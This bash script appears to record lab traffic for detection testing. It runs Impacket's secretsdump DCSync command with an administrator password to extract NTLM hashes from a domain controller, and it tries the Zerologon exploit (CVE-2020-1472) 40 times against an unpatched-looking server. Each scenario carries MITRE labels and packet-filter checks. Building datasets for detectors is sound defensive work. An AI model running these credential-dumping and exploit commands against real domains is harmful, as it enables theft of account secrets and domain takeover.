#!/bin/bash
# Attacks by remote procedure calls on a domain controller.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

DC=10.20.2.10
ATTACKER=10.20.1.66

record_rpc_dcsync() {
    begin rpc-dcsync attack "A workstation that is no domain controller asks the domain controller to replicate secrets to it (Impacket's secretsdump), account by account, with the password of an administrator."
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    domain_on dc $DC "server max protocol = SMB2_10"
    domain_user anna
    domain_start
    domain_client attacker
    capture clients
    impacket secretsdump
    shell attacker "cd $WORK && $PYTHON $IMPACKET -just-dc-ntlm '$WORKGROUP/Administrator:$ADMIN_PASSWORD@$DC'" # it leaves a file behind
    expect "{technique: T1003.006, actor: $ATTACKER, kind: directory replication, target: $DC}"
    contains "drsuapi && dcerpc.opnum == 3" -ge 1
    contains "epm && dcerpc.opnum == 3" -ge 1
    finish
}

record_rpc_zerologon() {
    begin rpc-zerologon attack "A workstation tries to pass for the domain controller with a Netlogon credential of nothing but zeros, 40 times (CVE-2020-1472; a script of ours on Impacket's client). The server is not vulnerable and refuses."
    hospital clients servers
    host dc servers $DC
    host attacker clients $ATTACKER
    domain_on dc $DC "server max protocol = SMB2_10"
    domain_start
    domain_client attacker
    programs python3-impacket
    capture clients
    run attacker $PYTHON "$RECORD_DIR/zerologon.py" $DC DC1 40
    expect "{technique: T1210, actor: $ATTACKER, kind: netlogon with a credential of zeros, target: $DC}"
    contains "rpc_netlogon && dcerpc.opnum == 26" -ge 40
    finish
}

main "$@"
